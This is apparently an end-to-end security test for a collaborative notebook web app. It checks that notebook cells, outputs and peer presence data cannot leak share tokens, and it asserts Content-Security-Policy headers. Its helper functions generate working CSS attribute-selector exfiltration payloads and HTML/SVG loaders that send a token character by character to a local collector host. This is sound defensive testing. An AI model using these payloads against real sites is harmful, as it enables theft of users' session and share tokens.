// Issue 14, section 1: a notebook's content must not steal the tokens of whoever opens it.
//
// The attack that worked: a markdown cell's <style> matched the share-link field of the page
// (`input[value^="il1.x"]`, `:has()`, `[href*=token=]`) and sent the token out one character per
// request with `background-image: url(attacker/x)`. Here that attack, and every other way for
// markup to make the page load a URL (<img>, <link rel=stylesheet>, @import, @font-face, style
// attributes, SVG images and fills, media, frames, scripts), is written into a notebook as a
// markdown cell, an HTML output, a markdown output and an SVG output, and a hostile peer puts it
// in its presence name and colour. The notebook is opened with the admin token (through the
// list page) and with an edit token. A collector on a second local port counts every request:
// it must get none (and one from the test itself, to show it counts). No token is in the DOM
// or the address bar, the page works under its Content-Security-Policy (a cell runs, a share
// link goes to the clipboard, opens, is listed in the dialog and revoked there, which cuts it
// off), and every response carries the security headers.
//
// An HTML output that loads a library from a CDN (a third local server stands in for it) shows
// why it could not: outputs load nothing from the network.
//
//   scripts/build-web.sh && cargo build -p inloop-cli && node --test tests/e2e/security.test.mjs
import assert from 'node:assert/strict';
import http from 'node:http';
import { test } from 'node:test';

import { answerNamePrompt, cell, ipynb, makeShareLink, observer, openContext, ready, screenshot, startRelay, waitFor } from './lib.mjs';

/** An HTTP server on a loopback port of its own that keeps every request it is sent. */
async function startCounter(body = 'x') {
  const requests = [];
  const server = http.createServer((request, response) => {
    requests.push(request.url);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'cross-origin-resource-policy': 'cross-origin' });
    response.end(body);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    requests,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}

// Every character a token has, for the one-character-per-request selectors.
const TOKEN_CHARS = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.';
// "il1." written as a CSS escape, so the notebook's own text (shown in its editors) never holds
// the token prefix the test looks for in the DOM.
const PREFIX = '\\69 l1.';

/** The CSS of the attack, every request tagged with `where` it came from. */
function stealingCss(collector, where) {
  const to = (path) => `url(${collector}/${where}/${path})`;
  const rules = [`@import ${to('import.css')};`, `@font-face{font-family:steal;src:${to('font.woff')}}`, `body{font-family:steal}`];
  for (const c of TOKEN_CHARS) {
    const code = c.charCodeAt(0);
    rules.push(
      `input[value^="${PREFIX}${c}"]{background-image:${to(`value/${code}`)}}`,
      `[value*="token=${PREFIX}${c}"]{background-image:${to(`link/${code}`)}}`,
      `html:has([value*="${PREFIX}${c}"]) body{background-image:${to(`has/${code}`)}}`,
      `a[href*="token=${PREFIX}${c}"]{background-image:${to(`href/${code}`)}}`,
    );
  }
  rules.push(
    `[value*="${PREFIX}"],[href*="token="],[src*="token="],[content*="token="]{background-image:${to('any')}}`,
    `html:has([value*="token="]) body{background-image:${to('has-any')}}`,
    `#share-menu{background-image:${to('share-menu')}}`,
  );
  return rules.join('\n');
}

/** The attack as markup: the CSS, and every other element or attribute that loads a URL. */
function stealingHtml(collector, where) {
  const at = (path) => `${collector}/${where}/${path}`;
  return [
    `<style>${stealingCss(collector, where)}</style>`,
    `<link rel="stylesheet" href="${at('link.css')}">`,
    `<img src="${at('img.png')}" alt="tracker">`,
    `<p style="background-image:url(${at('style-attr')})">styled by the notebook</p>`,
    `<svg width="20" height="20"><image href="${at('svg-image')}" width="10" height="10"/><rect width="20" height="20" fill="url(${at('svg-fill')}#p)"/></svg>`,
    `<video src="${at('video')}" poster="${at('poster')}"></video><audio src="${at('audio')}"></audio>`,
    `<input type="image" src="${at('input-image')}"><iframe src="${at('iframe')}"></iframe>`,
    `<object data="${at('object')}"></object><embed src="${at('embed')}">`,
    `<table background="${at('table-background')}"><tr><td>cell</td></tr></table>`,
    `<script src="${at('script.js')}"></script>`,
    `<script>fetch(${JSON.stringify(at('fetch'))}).catch(() => {}); new Image().src = ${JSON.stringify(at('js-image'))};</script>`,
  ].join('\n');
}

/** An SVG output that tries the same from inside the image. */
function stealingSvg(collector) {
  const at = (path) => `${collector}/svg-output/${path}`;
  return `<svg xmlns="http://www.w3.org/2000/svg" width="60" height="40"><style>@import url(${at('import.css')}); rect { fill: url(${at('fill')}#p) }</style><image href="${at('image')}" width="10" height="10"/><script>fetch(${JSON.stringify(at('script'))})</script><rect width="60" height="40" fill="#36c"/></svg>`;
}

// A 1x1 PNG, for a markdown cell's attachment.
const DOT_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** The hostile notebook: the attack in every place content can hold it. */
function hostileNotebook(collector, cdn) {
  const display = (data) => ({ output_type: 'display_data', metadata: {}, data });
  const notebook = JSON.parse(
    ipynb([
      { id: 'md', type: 'markdown', source: `# Quarterly notes\n\n${stealingHtml(collector, 'markdown')}\n\n![tracker](${collector}/markdown/md-image.png)` },
      { id: 'html', source: 'display(HTML(...))', outputs: [display({ 'text/html': stealingHtml(collector, 'html-output'), 'text/plain': '<HTML>' })] },
      { id: 'mdout', source: 'display(Markdown(...))', outputs: [display({ 'text/markdown': stealingHtml(collector, 'markdown-output'), 'text/plain': '<Markdown>' })] },
      { id: 'svg', source: 'display(SVG(...))', outputs: [display({ 'image/svg+xml': stealingSvg(collector), 'text/plain': '<SVG>' })] },
      {
        id: 'cdn',
        source: 'display(HTML(chart))',
        outputs: [display({ 'text/html': `<div id="chart">waiting for the chart library</div><script src="${cdn}/chart.js"></script>`, 'text/plain': '<Chart>' })],
      },
      { id: 'att', type: 'markdown', source: 'An attached image: ![dot](attachment:dot.png)' },
      { id: 'run', source: 'print(6 * 7)' },
    ]),
  );
  notebook.cells.find((c) => c.id === 'att').attachments = { 'dot.png': { 'image/png': DOT_PNG } };
  return JSON.stringify(notebook);
}

/** Records the page's Content-Security-Policy violations in `window.__violations`. */
async function recordViolations(context) {
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
  });
}

/** Asserts that neither the DOM nor the address bar of `page` holds a token. */
async function assertNoTokenIn(page, tokens, what) {
  const html = await page.evaluate(() => document.documentElement.outerHTML);
  for (const token of tokens) assert.ok(!html.includes(token), `${what}: a token is in the DOM`);
  assert.ok(!html.includes('il1.'), `${what}: 'il1.' is in the DOM`);
  assert.ok(!page.url().includes('token'), `${what}: the address bar still has a token: ${page.url()}`);
  for (const frame of page.frames()) assert.ok(!frame.url().includes('il1.'), `${what}: a frame's URL has a token`);
}

/** Waits until every output and markdown cell of the hostile notebook is on screen. */
async function rendered(page) {
  await waitFor('the markdown cells rendered', () => page.locator('.cell.rendered').count().then((n) => n === 2), 20_000);
  await waitFor('both HTML output frames shown', () => page.locator('iframe.output-html-frame[data-state="shown"]').count().then((n) => n === 2), 20_000);
  await waitFor('the SVG output and the attachment decoded', () =>
    page.evaluate(() => [...document.querySelectorAll('.output-image, .markdown-rendered img')].filter((img) => img.naturalWidth > 0).length === 2),
  );
  // Whatever the markup asks for in style and layout (an @import, a font) has been asked for:
  // the page's fonts are settled and two frames rendered since.
  await page.evaluate(async () => {
    await document.fonts.ready;
    await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  });
}

/**
 * What of the notebook's markup in the page could style the page or load something: the
 * sanitizer's part, checked on its own (the policy would block the loads anyway).
 */
function contentThatReachesOut(page) {
  return page.evaluate(() => {
    const found = [];
    for (const root of document.querySelectorAll('.markdown-rendered, .output-markdown, .cell-outputs, #presence, .cell-peers')) {
      for (const el of root.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        if (['style', 'link', 'script', 'iframe', 'object', 'embed', 'video', 'audio', 'input', 'image', 'form'].includes(tag)) {
          if (!(tag === 'iframe' && el.classList.contains('output-html-frame'))) found.push(`<${tag}>`);
        }
        for (const attr of el.attributes) {
          const value = attr.value;
          if (attr.name === 'style' && !el.matches('.output-html-frame, .presence-chip, .cell-peer, .output span')) found.push(`${tag}[style=${value}]`);
          // CSS: a style attribute or an SVG presentation attribute (fill, filter…) with url().
          const css = attr.name === 'style' || el.namespaceURI === 'http://www.w3.org/2000/svg';
          if (attr.name === 'background' || (css && /url\s*\(/i.test(value))) found.push(`${tag}[${attr.name}=${value}]`);
          if ((attr.name === 'href' || attr.name === 'xlink:href') && tag !== 'a') found.push(`${tag}[${attr.name}]`);
          if (attr.name === 'src' && !(tag === 'img' && value.startsWith('data:image/')) && !el.matches('.output-html-frame')) found.push(`${tag}[src=${value}]`);
        }
      }
    }
    return found;
  });
}

/** The violations a page recorded that are not the sanitizer's own inert parse of the markup. */
async function urlViolations(page) {
  const violations = await page.evaluate(() => window.__violations);
  return violations.filter((v) => v.blocked !== 'inline');
}

const readClipboard = (page) => page.evaluate(() => navigator.clipboard.readText());

test('a notebook cannot read or send out the tokens of whoever opens it', { timeout: 180_000 }, async () => {
  const relay = await startRelay();
  const collector = await startCounter();
  const cdn = await startCounter('document.getElementById("chart").textContent = "chart drawn by the CDN library";');
  const owner = await openContext();
  const editor = await openContext();
  const hostile = await openContext();
  try {
    const docId = await relay.createDoc(hostileNotebook(collector.url, cdn.url));
    const editToken = await relay.mint(docId, 'edit', 'Eve');
    for (const { context } of [owner, editor]) {
      await recordViolations(context);
      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: relay.url });
    }

    // --- the headers, on a page, a notebook, the API, a static file and the output frame.
    const get = (path, init) => fetch(`${relay.url}${path}`, init);
    const responses = {
      '/': await get('/'),
      [`/n/${docId}`]: await get(`/n/${docId}`),
      '/api/docs': await get('/api/docs', { headers: { authorization: `Bearer ${relay.adminToken}` } }),
      '/app/app.css': await get('/app/app.css'),
    };
    for (const [path, response] of Object.entries(responses)) {
      assert.equal(response.status, 200, path);
      const csp = response.headers.get('content-security-policy') ?? '';
      for (const directive of [
        "default-src 'self'",
        "script-src 'self' 'wasm-unsafe-eval';",
        "img-src 'self' data: blob:",
        "connect-src 'self';",
        "object-src 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
      ]) {
        assert.ok(csp.includes(directive), `${path}: CSP has ${directive}: ${csp}`);
      }
      assert.ok(!csp.includes('unsafe-inline'), `${path}: no 'unsafe-inline': ${csp}`);
      assert.equal(response.headers.get('cross-origin-opener-policy'), 'same-origin', path);
      assert.equal(response.headers.get('cross-origin-embedder-policy'), 'require-corp', path);
      assert.equal(response.headers.get('referrer-policy'), 'no-referrer', path);
      assert.equal(response.headers.get('x-content-type-options'), 'nosniff', path);
    }
    // The notebook page's style nonce: in its policy and on its stylesheet link, new each time.
    const nonceOf = async (response) => {
      const nonce = response.headers.get('content-security-policy').match(/'nonce-([0-9a-f]{32})'/)?.[1];
      assert.ok(nonce, 'the notebook page has a style nonce');
      assert.ok((await response.text()).includes(`nonce="${nonce}"`), 'the page carries the nonce of its policy');
      return nonce;
    };
    assert.notEqual(await nonceOf(responses[`/n/${docId}`]), await nonceOf(await get(`/n/${docId}`)));
    const frameCsp = (await get('/output-frame.html')).headers.get('content-security-policy');
    for (const directive of ["default-src 'none'", 'sandbox allow-scripts allow-popups', "frame-ancestors 'self'", 'img-src data: blob:']) {
      assert.ok(frameCsp.includes(directive), `the output frame's CSP has ${directive}: ${frameCsp}`);
    }

    // --- a hostile peer's presence: its name and colour are markup and CSS.
    const peer = await observer(hostile.context, relay, docId, editToken);
    await peer.evaluate((collector) => {
      const presence = {
        name: `<img src="${collector}/presence/name.png"><style>body{background:url(${collector}/presence/style)}</style>`,
        colour: `red; background-image: url(${collector}/presence/colour)`,
        cellId: 'run',
        selection: { anchor: 0, head: 5 },
      };
      window.nb.setPresence(presence);
      setInterval(() => window.nb.setPresence(presence), 1_000);
    }, collector.url);

    // --- the owner: the admin URL opens the list, the list opens the notebook.
    const list = await owner.context.newPage();
    await list.goto(`${relay.url}/?token=${encodeURIComponent(relay.adminToken)}`);
    await list.locator(`[data-testid="doc"][data-doc-id="${docId}"] a.doc-link`).waitFor();
    await assertNoTokenIn(list, [relay.adminToken], 'the list page');
    await list.locator(`[data-testid="doc"][data-doc-id="${docId}"] a.doc-link`).click();
    await list.waitForURL(`${relay.url}/n/${docId}`);
    await ready(list);
    const ownerPage = list;
    await answerNamePrompt(ownerPage, 'Owner');
    await rendered(ownerPage);
    await waitFor('the hostile peer in the owner\'s page', () => ownerPage.locator('[data-testid="presence-user"]').count());

    // It works: a cell runs in this browser under the policy.
    await cell(ownerPage, 'run').locator('button[data-action="run"]').click();
    await waitFor('the cell to print 42', async () => (await cell(ownerPage, 'run').locator('.cell-outputs').innerText()).includes('42'), 60_000);

    // The CDN output says why its library did not load, and the CDN was not asked.
    const notice = cell(ownerPage, 'cdn').locator('.output-blocked');
    await notice.waitFor({ state: 'visible' });
    assert.match(await notice.innerText(), new RegExp(`Not loaded: ${cdn.url}/chart\\.js`));
    console.log(`what a user sees of an output that loads a CDN library: "${await notice.innerText()}"`);

    // A share link: made in the dialog, put on the clipboard, never in the page.
    const readLink = await makeShareLink(ownerPage, 'read', 'Reader');
    assert.ok(readLink.startsWith(`${relay.url}/n/${docId}?token=il1.`), readLink);
    await screenshot(ownerPage, 'security-share-dialog');
    await assertNoTokenIn(ownerPage, [relay.adminToken, readLink.split('token=')[1]], 'the owner\'s notebook page');
    assert.deepEqual(await contentThatReachesOut(ownerPage), [], 'the notebook\'s markup in the owner\'s page');
    assert.deepEqual(await urlViolations(ownerPage), [], 'nothing the sanitizer let through had to be stopped by the policy');

    // --- the edit link, opened directly.
    const editPage = await editor.context.newPage();
    await editPage.goto(`${relay.url}/n/${docId}?token=${encodeURIComponent(editToken)}`);
    await ready(editPage);
    await answerNamePrompt(editPage, 'Editor');
    await rendered(editPage);
    // Its own link, copied from the dialog (not shown).
    await editPage.locator('[data-action="share"]').click();
    await editPage.locator('[data-testid="share-copy-current"]').click();
    await waitFor('its own link on the clipboard', async () => (await readClipboard(editPage)) === `${relay.url}/n/${docId}?token=${editToken}`);
    await assertNoTokenIn(editPage, [editToken, relay.adminToken], 'the edit link\'s page');
    assert.deepEqual(await contentThatReachesOut(editPage), [], 'the notebook\'s markup in the edit link\'s page');
    assert.deepEqual(await urlViolations(editPage), [], 'nothing the sanitizer let through had to be stopped by the policy');
    // A reload of the tab keeps its token (sessionStorage), and the address bar stays clean.
    await editPage.reload();
    await ready(editPage);
    assert.equal(await editPage.locator('#role').innerText(), 'can edit');
    await assertNoTokenIn(editPage, [editToken], 'the edit link\'s page, reloaded');

    // --- the read link from the clipboard opens, in a browser of its own.
    const reader = await openContext();
    try {
      const readPage = await reader.context.newPage();
      await readPage.goto(readLink);
      await ready(readPage);
      await answerNamePrompt(readPage, 'Reader');
      assert.equal(await readPage.locator('#role').innerText(), 'view only');
      await assertNoTokenIn(readPage, [readLink.split('token=')[1]], 'the read link\'s page');

      // Listed in the dialog (role and name, never the token) and revoked there: it is cut off.
      const row = ownerPage.locator('[data-testid="share-link"]', { hasText: 'Reader' });
      await row.waitFor();
      assert.match(await row.innerText(), /Can view/);
      await row.locator('[data-testid="share-revoke"]').click();
      await row.waitFor({ state: 'detached' });
      await waitFor('the read page cut off', async () => (await readPage.locator('[data-testid="status-connection"]').getAttribute('data-state')) === 'closed');
      console.log(`the read page after its link was revoked: "${await readPage.locator('[data-testid="status-connection"]').innerText()}"`);
      await assertNoTokenIn(ownerPage, [relay.adminToken, readLink.split('token=')[1]], 'the owner\'s page with its links listed');
    } finally {
      await reader.close();
    }

    // --- the policy is a second layer: markup placed past the sanitizer loads nothing either.
    const blocked = await ownerPage.evaluate(async (collector) => {
      const before = window.__violations.length;
      const div = document.createElement('div');
      div.innerHTML = `<img src="${collector}/past-sanitizer/img.png"><style>body{background:url(${collector}/past-sanitizer/style)}</style>`;
      // Until the policy has reported both (5 s at most: the assertion below says what came).
      const both = () => ['img-src', 'style-src-elem'].every((d) => window.__violations.slice(before).some((v) => v.directive === d));
      await new Promise((resolve) => {
        const done = () => {
          document.removeEventListener('securitypolicyviolation', check);
          clearTimeout(timer);
          resolve();
        };
        const check = () => both() && done();
        const timer = setTimeout(done, 5_000);
        document.addEventListener('securitypolicyviolation', check);
        document.body.append(div);
        check();
      });
      div.remove();
      return window.__violations.slice(before).map((v) => v.directive);
    }, collector.url);
    assert.ok(blocked.includes('img-src') && blocked.includes('style-src-elem'), `the policy blocked both: ${blocked}`);

    // --- nothing reached the collector or the CDN; the collector does count.
    assert.deepEqual(collector.requests, [], 'requests the notebook made');
    assert.deepEqual(cdn.requests, [], 'requests to the CDN');
    await fetch(`${collector.url}/control`);
    assert.deepEqual(collector.requests, ['/control'], 'the collector counts a request');
    console.log('collector: 0 requests from the notebook, 1 from the test itself');
    assert.deepEqual([...owner.errors, ...editor.errors], [], 'no page errors');
  } finally {
    await Promise.all([owner.close(), editor.close(), hostile.close()]);
    await Promise.all([collector.close(), cdn.close()]);
    await relay.stop();
  }
});

test('a notebook without hostile content works under the policy with no violation', { timeout: 120_000 }, async () => {
  const relay = await startRelay();
  const browser = await openContext();
  try {
    await recordViolations(browser.context);
    const docId = await relay.createDoc(
      ipynb([
        { id: 'md', type: 'markdown', source: '# Plain\n\nSome *markdown*, `code` and a [link](https://example.org).' },
        {
          id: 'code',
          source: 'print("\\x1b[31mred\\x1b[0m", 6 * 7)',
          outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': '<div style="height:120px">a tall <b>HTML</b> output</div><script>document.body.append(" and its script ran")</script>' } }],
        },
      ]),
    );
    // Opened without a token in the URL: the admin token this browser remembers is used.
    const list = await browser.context.newPage();
    await list.goto(`${relay.url}/?token=${encodeURIComponent(relay.adminToken)}`);
    await list.locator('[data-testid="doc"]').first().waitFor();
    const page = await browser.context.newPage();
    await page.goto(`${relay.url}/n/${docId}`);
    await ready(page);
    await answerNamePrompt(page);
    // The HTML output's own inline style and script run in its frame, which takes its height.
    await waitFor('the HTML output shown at its height', async () => {
      const frame = cell(page, 'code').locator('iframe.output-html-frame');
      return (await frame.getAttribute('data-state')) === 'shown' && (await frame.evaluate((f) => f.getBoundingClientRect().height)) >= 120;
    });
    const frame = page.frames().find((f) => f.url().endsWith('/output-frame.html'));
    assert.match(await frame.evaluate(() => document.body.innerText), /a tall HTML output\s+and its script ran/);
    // Typing (CodeMirror's styles need the nonce) and running (Pyodide needs wasm-unsafe-eval).
    await cell(page, 'code').locator('.cm-content').click();
    await page.keyboard.press('End');
    await page.keyboard.insertText('  # checked');
    await cell(page, 'code').locator('button[data-action="run"]').click();
    await waitFor('the run', async () => (await cell(page, 'code').locator('.cell-outputs').innerText()).includes('red 42'), 60_000);
    assert.equal(
      await cell(page, 'code').locator('.output-stdout span').evaluate((span) => getComputedStyle(span).color),
      'rgb(231, 92, 88)',
      'ANSI colours are applied (through the CSSOM)',
    );
    assert.ok(
      await page.evaluate(() => [...document.querySelectorAll('style')].some((s) => s.sheet && s.sheet.cssRules.length > 20)),
      'CodeMirror\'s styles are applied',
    );
    assert.deepEqual(await page.evaluate(() => window.__violations), [], 'no Content-Security-Policy violation');
    await screenshot(page, 'security-clean-notebook');
    assert.deepEqual(browser.errors, [], 'no page errors');
  } finally {
    await browser.close();
    await relay.stop();
  }
});
